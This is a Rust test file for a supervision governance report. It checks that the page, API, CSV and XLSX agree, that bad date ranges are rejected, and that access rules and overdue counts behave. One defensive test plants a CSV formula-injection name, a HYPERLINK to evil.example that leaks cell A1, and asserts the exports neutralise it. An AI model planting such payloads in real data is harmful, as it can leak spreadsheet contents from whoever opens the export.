//! The governance report: one report behind the page, the API, the CSV and the XLSX; date
//! ranges checked field by field; the report moving when supervision happens.

use crate::helpers::*;
use calamine::Reader;

fn today() -> time::Date {
    crate::helpers::today()
}

#[tokio::test]
async fn page_api_csv_and_xlsx_tell_the_same_story() {
    let t = TestApp::new().await;
    let api = t.api(PSW).await;
    let report = api.get("/api/v1/governance").await.expect(200).json();
    assert_eq!(report["to"], today().to_string());
    assert_eq!(report["trend"].as_array().unwrap().len(), 12);
    let people = report["overall"]["people"].as_u64().unwrap();
    let overdue = report["overall"]["overdue"].as_u64().unwrap();
    assert!(people > 0);

    let web = t.signed_in(PSW).await;
    let page = web.get("/governance").await.expect(200);
    for section in [
        "Registration",
        "Twelve-month trend",
        "By team",
        "Capacity",
        "<svg",
    ] {
        assert!(page.body.contains(section), "page lacks {section}");
    }
    let range = format!("from={}&to={}", report["from"].as_str().unwrap(), today());
    let csv = web
        .get(&format!("/governance.csv?{range}"))
        .await
        .expect(200);
    assert!(csv.body.starts_with("section,row,column,value,from,to"));
    let csv_people = format!("Supervision overall,Everyone,People,{people},");
    let csv_overdue = format!("Supervision overall,Everyone,Overdue on the last day,{overdue},");
    assert!(csv.body.contains(&csv_people), "{}", &csv.body[..500]);
    assert!(csv.body.contains(&csv_overdue));

    let xlsx = web
        .get(&format!("/governance.xlsx?{range}"))
        .await
        .expect(200);
    assert_eq!(
        xlsx.headers["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    let bytes = web.get_bytes(&format!("/governance.xlsx?{range}")).await;
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let sheets = book.sheet_names();
    assert!(sheets.contains(&"By team".to_string()), "{sheets:?}");
    let overall = book.worksheet_range("Supervision overall").unwrap();
    assert_eq!(
        overall.get_value((1, 1)),
        Some(&calamine::Data::Float(people as f64))
    );
}

#[tokio::test]
async fn bad_ranges_name_the_field() {
    let t = TestApp::new().await;
    let api = t.api(PSW).await;
    let tomorrow = (today() + time::Duration::days(1)).to_string();
    let days_ago = |n: i64| (today() - time::Duration::days(n)).to_string();
    for (q, field) in [
        ("from=not-a-date".to_string(), "from"),
        (format!("to={tomorrow}"), "to"),
        (
            format!("from={}&to={}", days_ago(30), days_ago(200)),
            "from",
        ),
        (
            format!("from={}&to={}", days_ago(366 * 11), days_ago(30)),
            "from",
        ),
    ] {
        let body = api
            .get(&format!("/api/v1/governance?{q}"))
            .await
            .expect(422)
            .json();
        assert_eq!(body["errors"][0]["field"], field, "{q}");
    }
    let page = t
        .signed_in(PSW)
        .await
        .get("/governance?from=nonsense")
        .await
        .expect(422);
    assert!(page.body.contains("The start date must be a real date"));
}

#[tokio::test]
async fn a_held_session_takes_someone_off_the_overdue_list() {
    let t = TestApp::new().await;
    let api = t.api(PSW).await;
    let before = api.get("/api/v1/governance").await.expect(200).json();
    let someone = before["overdue"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["practitioner_id"].as_i64().unwrap())
        .next()
        .expect("the demo has someone overdue");
    let sam = t.user_id(SUPERVISOR).await;
    // Written as any write is, in a transaction that commits (so the kept report moves on).
    let mut w = mhsw::service::write::Write::begin_command_line(&t.db, None)
        .await
        .unwrap();
    mhsw::store::engine::query(
        "INSERT INTO supervision_sessions (practitioner_id, supervisor_user_id, session_type, status,
            scheduled_on, held_on, minutes, created_at, updated_at)
         VALUES ($1, $2, 'professional', 'held', $3, $3, 90, $4, $4)",
    )
    .bind(someone)
    .bind(sam)
    .bind(today())
    .bind(mhsw::domain::timestamp::Timestamp::parse(&format!("{}T09:00:00Z", today())).unwrap())
    .execute(&mut *w)
    .await
    .unwrap();
    w.commit("create", "supervision_session", someone, "test")
        .await
        .unwrap();
    let after = api.get("/api/v1/governance").await.expect(200).json();
    assert_eq!(
        after["overall"]["overdue"].as_u64().unwrap() + 1,
        before["overall"]["overdue"].as_u64().unwrap()
    );
    assert!(
        !after["overdue"]
            .as_array()
            .unwrap()
            .iter()
            .any(|o| o["practitioner_id"] == someone)
    );
    assert_eq!(
        after["unconfirmed"].as_array().unwrap().len(),
        before["unconfirmed"].as_array().unwrap().len() + 1
    );
}

#[tokio::test]
async fn the_workforce_lead_gets_the_report_without_the_pulse_and_practitioners_do_not() {
    let t = TestApp::new().await;
    let report = t
        .api(WORKFORCE)
        .await
        .get("/api/v1/governance")
        .await
        .expect(200)
        .json();
    assert!(report["pulse"].is_null());
    assert!(
        t.api(PSW)
            .await
            .get("/api/v1/governance")
            .await
            .expect(200)
            .json()["pulse"]
            .is_object()
    );
    t.api(PRACTITIONER)
        .await
        .get("/api/v1/governance")
        .await
        .expect(403);
}

/// The shape of the report's files (sections and columns) is part of what boards rely on.
#[tokio::test]
async fn the_report_files_keep_their_shape() {
    let t = TestApp::new().await;
    let range = mhsw::service::governance::GovernanceQuery::default()
        .parse(today())
        .unwrap();
    let actor = t.actor(PSW).await;
    let report = mhsw::service::governance::report(
        &t.db,
        &t.settings,
        &actor,
        range,
        &Default::default(),
        today(),
    )
    .await
    .unwrap();
    let shape: Vec<String> = mhsw::web::report_files::tables(&report)
        .iter()
        .map(|t| format!("{}: {}", t.name, t.headers.join(" | ")))
        .collect();
    insta::assert_json_snapshot!("governance_shape", shape);
}

/// A council PSW renames a worker they second to the trust to a formula; the trust's
/// governance export and audit export carry it as text, never as a formula.
#[tokio::test]
async fn names_reach_the_csv_exports_as_text_never_as_formulas() {
    let t = TestApp::new().await;
    let council = t.org_id("LA9N1").await;
    let trust = t.org_id("R9N").await;
    let seconded = t
        .scalar_i64(&format!(
            "SELECT MIN(id) FROM practitioners WHERE employer_org_id = {council}
             AND host_org_id = {trust} AND end_date IS NULL"
        ))
        .await;
    let payload = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")";
    mhsw::store::engine::query(
        "UPDATE practitioners SET given_name = $1, family_name = $2 WHERE id = $3",
    )
    .bind(payload)
    .bind("+1+1")
    .bind(seconded)
    .execute(&t.db.pool)
    .await
    .unwrap();
    // Nobody has supervision, so everyone (the renamed worker too) is listed as overdue.
    mhsw::store::engine::query("DELETE FROM supervision_sessions")
        .execute(&t.db.pool)
        .await
        .unwrap();
    let psw = t.signed_in(PSW).await;
    let governance = psw
        .get(&format!(
            "/governance.csv?from={}&to={}",
            today() - time::Duration::days(90),
            today()
        ))
        .await
        .expect(200);
    assert!(
        governance.body.contains("HYPERLINK"),
        "the name is in the export"
    );
    psw.get(&format!("/practitioners/{seconded}"))
        .await
        .expect(200);
    let audit = psw.get("/audit.csv").await.expect(200);
    for (file, text) in [("governance", &governance.body), ("audit", &audit.body)] {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                let number = cell.parse::<f64>().is_ok();
                assert!(
                    number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{file} export has a formula cell: {cell:?}"
                );
            }
        }
    }
}

/// "Overdue" means one thing: supervised before, and the gap is too long. Nobody without an
/// agreement is overdue or given a due date (measuring from the employment start gave dates
/// years in the past); the dashboard and the governance report count each standing alike.
#[tokio::test]
async fn no_agreement_and_never_supervised_are_their_own_counts_on_every_page() {
    let t = TestApp::new().await;
    let api = t.api(PSW).await;
    // Someone with an agreement and no sessions, and someone with neither.
    let ids: Vec<i64> = mhsw::store::engine::query_scalar(
        "SELECT id FROM practitioners WHERE id IN (SELECT practitioner_id FROM supervision_agreements WHERE ended_on IS NULL) ORDER BY id LIMIT 2",
    )
    .fetch_all(&t.db.pool)
    .await
    .unwrap();
    for id in &ids {
        mhsw::store::engine::query(format!(
            "DELETE FROM supervision_sessions WHERE practitioner_id = {id}"
        ))
        .execute(&t.db.pool)
        .await
        .unwrap();
    }
    mhsw::store::engine::query(format!(
        "DELETE FROM supervision_agreements WHERE practitioner_id = {}",
        ids[1]
    ))
    .execute(&t.db.pool)
    .await
    .unwrap();

    let dash = api
        .get("/api/v1/supervision/dashboard")
        .await
        .expect(200)
        .json();
    let rows = dash["rows"].as_array().unwrap();
    let row = |id: i64| rows.iter().find(|r| r["practitioner_id"] == id).unwrap();
    assert_eq!(row(ids[1])["status"]["standing"], "no_agreement");
    assert!(
        row(ids[1])["status"]["next_due"].is_null(),
        "no invented due date"
    );
    assert_eq!(row(ids[1])["status"]["overdue"], false);
    for r in rows.iter().filter(|r| r["has_agreement"] == false) {
        assert_eq!(r["status"]["standing"], "no_agreement");
        assert!(r["status"]["next_due"].is_null());
    }
    let standing = |s: &str| rows.iter().filter(|r| r["status"]["standing"] == s).count() as u64;
    assert_eq!(dash["overdue"].as_u64(), Some(standing("overdue")));
    assert_eq!(
        dash["never_supervised"].as_u64(),
        Some(standing("never_supervised"))
    );
    assert_eq!(
        dash["without_agreement"].as_u64(),
        Some(standing("no_agreement"))
    );
    assert!(standing("never_supervised") >= 1 && standing("no_agreement") >= 1);

    // The governance report on the same day says the same.
    let report = api.get("/api/v1/governance").await.expect(200).json();
    let listed = report["overdue"].as_array().unwrap();
    let listed_as = |s: &str| listed.iter().filter(|o| o["standing"] == s).count() as u64;
    assert_eq!(listed_as("overdue"), standing("overdue"));
    assert_eq!(listed_as("never_supervised"), standing("never_supervised"));
    assert_eq!(
        report["without_agreement"].as_u64(),
        Some(standing("no_agreement"))
    );
    assert!(listed.iter().all(|o| o["practitioner_id"] != ids[1]));
    assert_eq!(
        report["overall"]["overdue"].as_u64(),
        Some(standing("overdue"))
    );

    // The page says it in words, with no due date for the person without an agreement.
    let web = t.signed_in(PSW).await;
    let page = web.get("/supervision").await.expect(200);
    assert!(page.body.contains("Agreement made, not yet supervised"));
    assert!(page.body.contains("No date agreed"));
}

/// The board sees its own staff and each partner's seconded staff side by side, in the
/// report, its files and the API, and can keep to one employer with the filter.
#[tokio::test]
async fn the_report_breaks_supervision_down_by_employer() {
    let t = TestApp::new().await;
    let api = t.api(PSW).await;
    let r = api.get("/api/v1/governance").await.expect(200).json();
    let rows = r["by_employer"].as_array().unwrap();
    let labels: Vec<&str> = rows.iter().map(|x| x["label"].as_str().unwrap()).collect();
    assert!(
        labels.contains(&"Northshire Mental Health NHS Foundation Trust"),
        "{labels:?}"
    );
    assert!(
        labels.len() >= 2,
        "a partner's seconded staff too: {labels:?}"
    );
    let total: u64 = rows.iter().map(|x| x["people"].as_u64().unwrap()).sum();
    assert_eq!(total, r["overall"]["people"].as_u64().unwrap());
    let c = t.signed_in(PSW).await;
    let page = c.get("/governance").await.expect(200).body;
    assert!(page.contains("By employer"));
    let csv = String::from_utf8(c.get_bytes("/governance.csv").await).unwrap();
    assert!(csv.contains("By employer"));
}
